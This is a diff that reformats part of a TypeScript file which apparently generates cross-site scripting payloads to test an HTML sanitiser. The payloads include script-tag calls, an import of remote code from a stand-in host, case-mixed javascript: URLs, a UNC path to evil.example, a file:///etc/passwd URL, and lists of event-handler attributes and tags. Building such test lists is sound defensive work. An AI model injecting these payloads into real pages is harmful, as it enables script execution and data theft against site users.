@@ -1,7 +1,8 @@
 // What a person who may write content, or has stolen a token, would try to run on a page.
 
 const CALLS = ['alert(1)', 'import("//x.example")', 'top.x=1'];
-const HANDLERS = 'onerror onload onclick onmouseover onfocus onanimationstart ontoggle onpointerenter onbegin onwheel'.split(' ');
+const HANDLERS =
+  'onerror onload onclick onmouseover onfocus onanimationstart ontoggle onpointerenter onbegin onwheel'.split(' ');
 export const SCHEMES = [
   'javascript:alert(1)',
   'JaVaScRiPt:alert(1)',
@@ -26,7 +27,8 @@ export const SCHEMES = [
   '\\\\evil.example',
   'file:///etc/passwd',
 ];
-const TAGS = 'img svg video audio body iframe details a div input marquee object embed math form button select style'.split(' ');
+const TAGS =
+  'img svg video audio body iframe details a div input marquee object embed math form button select style'.split(' ');
 
 export const PAYLOADS: readonly string[] = [
   ...CALLS.map((call) => `<script>${call}</script>`),
